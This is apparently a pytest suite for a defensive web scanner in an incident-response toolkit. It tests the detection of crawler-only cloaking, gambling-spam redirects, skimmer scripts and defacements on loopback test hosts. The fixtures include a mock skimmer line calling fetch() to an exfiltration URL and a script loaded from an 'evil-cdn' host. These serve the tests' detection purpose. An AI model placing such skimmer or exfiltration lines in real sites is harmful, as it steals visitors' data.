"""`csirt scan web` against loopback virtual hosts: cloaking, redirects, bad answers, scope."""

from __future__ import annotations

import pytest

from .conftest import City, Route, kinds, page

CLEAN = page("Dinas Kesehatan", "Jadwal vaksinasi dan layanan puskesmas kota.")
SPAM = page("Dinas Kesehatan", "Jadwal vaksinasi. <a href='//x.example'>slot gacor maxwin hari ini</a>")


def test_cloaking_only_for_googlebot_is_found(city: City) -> None:
    city.sites.hosts["dinkes.kota.test"] = {"/": Route(body=CLEAN, crawler_body=SPAM)}
    city.sites.hosts["honest.kota.test"] = {"/": Route(body=CLEAN)}
    city.inventory(("web-dinkes", "http://dinkes.kota.test/", "active"),
                   ("web-honest", "http://honest.kota.test/", "active"))
    doc = city.scan()
    cloaked = kinds(doc, "web.cloaking")
    assert [f["asset_id"] for f in cloaked] == ["web-dinkes"]
    ev = cloaked[0]["evidence"]
    assert ev["identity"] == "googlebot" and "Googlebot" in ev["user_agent"]
    assert ev["rules"] == ["web/test_web.yar:test_judol"]
    assert "slot gacor" in ev["terms"] and ev["sha256"] != ev["browser_sha256"]
    assert kinds(doc, "yara.web") == []  # the browser copy is clean
    uas = {h.ua for h in city.sites.log if h.host == "dinkes.kota.test"}
    assert any("Googlebot" in ua for ua in uas) and any("Chrome" in ua for ua in uas)
    assert doc["errors"] == []


def test_spam_shown_to_everyone_is_a_yara_finding_not_cloaking(city: City) -> None:
    city.sites.hosts["spam.kota.test"] = {"/": Route(body=SPAM)}
    city.inventory(("web-spam", "http://spam.kota.test/", "active"))
    doc = city.scan()
    assert [f["rule"] for f in kinds(doc, "yara.web")] == ["web/test_web.yar:test_judol"]
    assert kinds(doc, "web.cloaking") == []
    assert kinds(doc, "yara.web")[0]["evidence"]["url"] == "http://spam.kota.test/"


def test_offsite_redirect_is_a_finding_and_not_followed(city: City) -> None:
    city.sites.hosts["kec.kota.test"] = {"/": Route(status=302, location="https://gacor-judi.example/daftar")}
    city.inventory(("web-kec", "http://kec.kota.test/", "active"))
    doc = city.scan()
    red = kinds(doc, "web.redirect")
    assert len(red) == 1 and red[0]["evidence"]["location"] == "https://gacor-judi.example/daftar"
    assert red[0]["title"] == "Redirect off-site to gacor-judi.example"
    assert {h.host for h in city.sites.log} == {"kec.kota.test"}
    assert doc["errors"] == []


def test_in_scope_redirect_is_followed(city: City) -> None:
    city.sites.hosts["a.kota.test"] = {"/": Route(status=301, location="http://b.kota.test/home")}
    city.sites.hosts["b.kota.test"] = {"/home": Route(body=SPAM)}
    city.inventory(("web-a", "http://a.kota.test/", "active"), ("web-b", "http://b.kota.test/x", "suspended"))
    doc = city.scan()
    hits = kinds(doc, "yara.web")
    assert [(f["asset_id"], f["evidence"]["final_url"]) for f in hits] == [("web-a", "http://b.kota.test/home")]


def test_bad_answers_are_scan_errors_and_the_run_goes_on(city: City) -> None:
    city.sites.hosts["loop.kota.test"] = {"/": Route(status=302, location="/again"),
                                         "/again": Route(status=302, location="/")}
    counter = iter(range(10**6))
    city.sites.hosts["endless.kota.test"] = {}
    city.sites.default = lambda host, path: (
        Route(status=302, location=f"/r/{next(counter)}") if host == "endless.kota.test" else None)
    city.sites.hosts["big.kota.test"] = {"/": Route(body=b"<html>" + b"A" * 300_000 + b"slot gacor</html>")}
    city.sites.hosts["hang.kota.test"] = {"/": Route(hang=2.0)}
    city.sites.hosts["err.kota.test"] = {"/": Route(status=500, body=b"boom")}
    city.sites.hosts["ok.kota.test"] = {"/": Route(body=SPAM)}
    city.inventory(*[(f"web-{n}", f"http://{n}.kota.test/", "active")
                     for n in ("loop", "endless", "big", "hang", "err", "ok")])
    doc = city.scan()
    errors: dict[str, list[str]] = {}
    for e in doc["errors"]:
        errors.setdefault(e["target"], []).append(e["error"])
    assert "redirect loop" in errors["http://loop.kota.test/"][0]
    assert "too many redirects" in errors["http://endless.kota.test/"][0]
    assert "page larger than 100000 bytes" in errors["http://big.kota.test/"][0]
    assert "timeout" in errors["http://hang.kota.test/"][0]
    assert errors["http://err.kota.test/"][0].startswith("HTTP 500")
    assert "http://ok.kota.test/" not in errors
    assert [f["asset_id"] for f in kinds(doc, "yara.web")] == ["web-ok"]  # big page cut before the spam
    # max_redirects 5: at most 6 requests per identity (four identities by default)
    assert sum(1 for h in city.sites.log if h.host == "endless.kota.test") <= 4 * 6


def test_targets_must_be_in_scope(city: City) -> None:
    city.sites.hosts["extra.kota.test"] = {"/": Route(body=SPAM)}
    city.inventory(("web-a", "http://a.kota.test/", "active"))
    result = city.cli(["scan", "web", "http://extra.kota.test/"], expect=2)
    assert "not an inventory host: extra.kota.test" in result.stderr and "--allow-host" in result.stderr
    doc = city.scan("http://extra.kota.test/", "--allow-host", "extra.kota.test")
    assert [f["asset_id"] for f in kinds(doc, "yara.web")] == [None]
    assert city.sites.log and {h.host for h in city.sites.log} == {"extra.kota.test"}


def test_same_origin_scripts_and_links_are_scanned_others_are_not(city: City) -> None:
    head = ("<script src='/js/app.js'></script><script src='http://cdn.kota.test/lib.js'></script>"
            "<script src='https://evil-cdn.example/x.js'></script>")
    body = "<a href='/berita'>berita</a> <a href='http://other.kota.test/'>other</a>"
    city.sites.hosts["shop.kota.test"] = {
        "/": Route(body=page("Toko", body, head)),
        "/js/app.js": Route(body=b"fetch('https://x/skim-test-exfil')", content_type="text/javascript"),
        "/berita": Route(body=page("Berita", "hacked by test-crew")),
    }
    city.inventory(("web-shop", "http://shop.kota.test/", "active"))
    doc = city.scan()
    got = {(f["rule"].split(":")[1], f["evidence"]["url"]) for f in kinds(doc, "yara.web")}
    assert got == {("test_skimmer", "http://shop.kota.test/js/app.js"),
                   ("test_deface", "http://shop.kota.test/berita")}
    assert {h.host for h in city.sites.log} == {"shop.kota.test"}


def test_identities_come_from_config(city: City) -> None:
    city.configure(identities=[
        {"name": "desktop", "user_agent": "Mozilla/5.0 TestDesktop"},
        {"name": "googlebot", "user_agent": "Googlebot/2.1 test", "crawler": True},
        {"name": "bingbot", "user_agent": "bingbot/2.0 test", "crawler": True}])
    city.sites.hosts["id.kota.test"] = {"/": Route(body=CLEAN)}
    city.inventory(("web-id", "http://id.kota.test/", "active"))
    doc = city.scan()
    assert doc["stats"]["identities"] == ["desktop", "googlebot", "bingbot"]
    assert sorted(h.ua for h in city.sites.log) == ["Googlebot/2.1 test", "Mozilla/5.0 TestDesktop",
                                                     "bingbot/2.0 test"]


def test_rescan_never_duplicates(city: City) -> None:
    city.sites.hosts["dup.kota.test"] = {"/": Route(body=CLEAN, crawler_body=SPAM)}
    city.inventory(("web-dup", "http://dup.kota.test/", "active"))
    first = city.scan()
    second = city.scan()
    fps = sorted(f["fingerprint"] for f in first["findings"])
    assert fps and fps == sorted(f["fingerprint"] for f in second["findings"])
    listed = city.cli(["--json", "findings", "list", "--kind", "web"]).json
    # web.cloaking and web.judol_content (googlebot's copy links to a gambling page), each seen twice
    assert sorted(f["kind"] for f in listed["items"]) == ["web.cloaking", "web.judol_content"]
    assert [f["seen_count"] for f in listed["items"]] == [2, 2]


def test_a_crash_on_one_site_is_a_scan_error(city: City, monkeypatch: pytest.MonkeyPatch) -> None:
    import csirt_kit.scan.web.scanner as scanner

    real = scanner.parse_page

    def fragile(body: bytes, url: str, charset: str = "utf-8") -> object:
        if "bad.kota.test" in url:
            raise RuntimeError("parser bug")
        return real(body, url, charset)

    monkeypatch.setattr(scanner, "parse_page", fragile)
    city.sites.hosts["bad.kota.test"] = {"/": Route(body=CLEAN)}
    city.sites.hosts["good.kota.test"] = {"/": Route(body=SPAM)}
    city.inventory(("web-bad", "http://bad.kota.test/", "active"), ("web-good", "http://good.kota.test/", "active"))
    doc = city.scan()
    assert [e for e in doc["errors"]] == [{"target": "http://bad.kota.test/", "error": "internal error: parser bug"}]
    assert [f["asset_id"] for f in kinds(doc, "yara.web")] == ["web-good"]


def test_spam_served_to_crawlers_while_browsers_are_refused_is_cloaking(city: City) -> None:
    city.sites.hosts["hid.kota.test"] = {"/": Route(status=403, body=b"forbidden", crawler_body=SPAM,
                                                    crawler_status=200)}
    city.inventory(("web-hid", "http://hid.kota.test/", "active"))
    doc = city.scan()
    assert [f["evidence"]["identity"] for f in kinds(doc, "web.cloaking")] == ["googlebot"]
    assert kinds(doc, "web.cloaking")[0]["evidence"]["browser_sha256"] is None
    assert [e["error"] for e in doc["errors"]] == ["HTTP 403 (as browser)"]
